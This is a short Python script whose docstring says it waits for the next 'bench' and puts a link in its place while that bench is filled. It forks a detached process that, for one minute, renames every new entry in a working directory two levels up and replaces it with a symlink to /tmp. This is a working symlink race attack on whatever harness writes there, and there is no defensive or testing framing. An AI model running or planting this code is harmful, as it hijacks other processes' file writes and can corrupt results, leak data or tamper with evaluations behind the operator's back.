"""A process waits for the next bench and puts a link in its place while it is filled."""

import os
import time
from pathlib import Path

work = Path(__file__).resolve().parents[2]
if os.fork() == 0:
    os.setsid()
    seen = set(os.listdir(work))
    end = time.time() + 60
    while time.time() < end:
        for name in set(os.listdir(work)) - seen:
            try:
                os.rename(work / name, work / f"away-{name}")
                os.symlink("/tmp", work / name)
            except OSError:
                pass
    os._exit(0)
